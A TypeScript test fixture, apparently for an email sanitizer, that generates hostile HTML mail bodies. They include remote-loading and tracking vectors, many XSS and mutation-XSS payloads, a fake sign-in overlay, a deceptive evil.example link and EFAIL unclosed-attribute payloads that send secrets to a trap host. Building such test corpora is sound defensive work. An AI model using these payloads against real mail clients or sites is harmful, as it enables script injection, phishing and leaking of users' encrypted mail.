// Mails that try to load something, to run something, or to leave their frame: every known way in a few lines of our
// own, after EFAIL, HTTPLeaks and fixes in mail programs. `trap` is an address that must never be requested.

type Hostile = { name: string; html: string };

const run = (trap: string) => `top.hasRun=1;fetch('${trap}/ran')`;

/** Elements that load an address by themselves, in each attribute that does so. */
const loaders = (trap: string): string[] => [
  `<audio src="${trap}/1" autoplay></audio>`,
  `<video poster="${trap}/2" src="${trap}/3" autoplay><track src="${trap}/4"></video>`,
  `<picture><source srcset="${trap}/5"><img srcset="${trap}/6 2x" sizes="1px"></picture>`,
  `<input type="image" src="${trap}/7"><button style="background:url(${trap}/8)">x</button>`,
  `<object data="${trap}/9"><param name="src" value="${trap}/10"></object><embed src="${trap}/11">`,
  `<iframe src="${trap}/12" srcdoc="<img src=${trap}/13>"></iframe><frameset><frame src="${trap}/14"></frameset>`,
  `<body background="${trap}/15"><table background="${trap}/16"><tr><td background="${trap}/17">x</td></tr></table>`,
  `<link rel="stylesheet" href="${trap}/18"><link rel="prefetch" href="${trap}/19"><link rel="dns-prefetch" href="${trap}/20"><link rel="icon" href="${trap}/21">`,
  `<meta http-equiv="refresh" content="0;url=${trap}/22"><base href="${trap}/23/"><img src="24">`,
  `<image src="${trap}/25"><img lowsrc="${trap}/26" dynsrc="${trap}/27" longdesc="${trap}/28" usemap="${trap}/29">`,
  `<bgsound src="${trap}/30"><applet archive="${trap}/31" code="${trap}/32"></applet><isindex action="${trap}/33">`,
  `<a href="https://ok.example" ping="${trap}/34">x</a><area ping="${trap}/35" href="#">`,
  `<blockquote cite="${trap}/36">x</blockquote><q cite="${trap}/37">x</q><del cite="${trap}/38">x</del>`,
  `<script src="${trap}/39"></script><script type="module">import "${trap}/40"</script>`,
  `<img src="//${trap.replace(/^http:\/\//, "")}/41"><img src="\thttp\n://${trap.replace(/^http:\/\//, "")}/42">`,
  `<img src="${trap}/43" loading="eager" crossorigin="use-credentials"><img src='${trap}/44' width=0 height=0>`,
  `<menu icon="${trap}/45"><command icon="${trap}/46"><menuitem icon="${trap}/47"></menu>`,
  `<form action="${trap}/48" id="f"><input autofocus onfocus="this.form.submit()" formaction="${trap}/49"></form>`,
  `<html manifest="${trap}/50"><head profile="${trap}/51"></head><body>x</body></html>`,
  `<!--[if gte mso 9]><v:shape><v:imagedata src="${trap}/52"/></v:shape><![endif]--><?xml-stylesheet href="${trap}/53"?>`,
  `<!DOCTYPE html SYSTEM "${trap}/54" [<!ENTITY x SYSTEM "${trap}/55">]><p>&x;</p>`,
];

/** The same through styles: in elements, attributes, escapes, comments, functions and properties. */
const styles = (trap: string): string[] => [
  `<style>@import url(${trap}/60); @import "${trap}/61"; @font-face{font-family:x;src:url(${trap}/62)} *{font-family:x}</style><p>x</p>`,
  `<p style="background:url(${trap}/63)">x</p><p style="background-image:url('${trap}/64')">x</p>`,
  `<p style="background:u\\72l(${trap}/65)">x</p><p style="background:\\75\\72\\6c(${trap}/66)">x</p>`,
  `<p style="background:/*x*/url/**/(${trap}/67)">x</p><p style="background:URL(${trap}/68)">x</p>`,
  `<ul style="list-style:url(${trap}/69)"><li style="list-style-image:url(${trap}/70)">x</li></ul>`,
  `<p style="border-image:url(${trap}/71) 1;cursor:url(${trap}/72),auto;content:url(${trap}/73)">x</p>`,
  `<p style="mask:url(${trap}/74);-webkit-mask-image:url(${trap}/75);filter:url(${trap}/76#a);clip-path:url(${trap}/77)">x</p>`,
  `<p style="background:image-set('${trap}/78' 1x);background:-webkit-image-set(url(${trap}/79) 1x);background:cross-fade(url(${trap}/80),red)">x</p>`,
  `<p style="--a:url(${trap}/81);background:var(--a)">x</p><p style="shape-outside:url(${trap}/82);float:left">x</p>`,
  `<p style="color:red;}</style><img src=${trap}/83><style>{">x</p>`,
  `<p style="background:red;background:expression(${trap}/84);behavior:url(${trap}/85);-moz-binding:url(${trap}/86)">x</p>`,
  `<font color="red;background:url(${trap}/87)">x</font><td bgcolor="url(${trap}/88)">x</td>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</p>`,
  `<style media="all">input[value^=a]{background:url(${trap}/89)}</style><p style='font:12px "x;background:url(${trap}/90)"'>x</p>`,
  `<p style="background-color:rgb(0,0,0,url(${trap}/91));width:calc(1px + url(${trap}/92))">x</p>`,
];

const scripts = (trap: string): string[] => {
  const js = run(trap);
  return [
    `<script>${js}</script><SCRIPT/x>${js}</SCRIPT><scr<script>ipt>${js}</script>`,
    `<img src=x onerror="${js}"><p onclick="${js}" onmouseover="${js}" onanimationstart="${js}">x</p>`,
    `<a href="javascript:${js}">x</a><a href="java\tscript:${js}">x</a><a href="&#106;avascript:${js}">x</a><a href=" javascript:${js}">x</a>`,
    `<a href="data:text/html,<script>${js}</script>">x</a><a href="vbscript:x">x</a><a href="blob:x">x</a>`,
    `<svg onload="${js}"><animate attributeName="href" values="javascript:${js}"/><a id="a"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>`,
    `<svg><set attributeName="onmouseover" to="${js}"/><image href="${trap}/100"/><feImage href="${trap}/101"/><style>@import "${trap}/102"</style></svg>`,
    `<math><mi xlink:href="javascript:${js}">x</mi><maction actiontype="statusline#${trap}">x</maction></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript><noembed><p title="</noembed><img src=x onerror=${js}>"></noembed>`,
    `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea><title><p title="</title><img src=x onerror=${js}>"></title>`,
    `<template><img src=x onerror="${js}"></template><xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe><object data="data:text/html,<script>${js}</script>"></object>`,
    `<details open ontoggle="${js}"><summary onclick="${js}">x</summary></details><marquee onstart="${js}">x</marquee>`,
    `<!--><img src=x onerror=${js}>--><!--! --!><img src=x onerror=${js}><![CDATA[<img src=x onerror=${js}>]]>`,
    `<p title='"><img src=x onerror=${js}>'>x</p><img alt="&quot;><img data-picture=0 src=${trap}/103 onerror=${js}>" src="${trap}/104">`,
    `<a href="https://bank.example@evil.example/">https://bank.example</a><a href="https://bank.example\\@evil.example">x</a>`,
    `<img data-picture="0" data-cid="x" src="x" class="host"><span class="host"> (bank.example)</span><summary></summary><details data-quote>x</details>`,
  ];
};

/** EFAIL: an unclosed address in one part swallows the next, so that the request would contain the secret. */
const unclosed = (trap: string): string[] => [
  `<img src="${trap}/110?`,
  `<p>secret</p><img src='${trap}/111?`,
  `<style>@import '${trap}/112?`,
  `<a href="${trap}/113?x`,
  `<form action="${trap}/114"><textarea name="x">`,
  `<base target='${trap}/115?`,
];

export const hostileMails = (trap: string): Hostile[] =>
  Object.entries({
    loads: loaders(trap),
    styles: styles(trap),
    runs: scripts(trap),
    unclosed: unclosed(trap),
  }).flatMap(([kind, all]) =>
    all.map((html, index) => ({ name: `${kind} ${index}`, html: `<p>Hola ${kind} ${index}</p>${html}` })),
  );
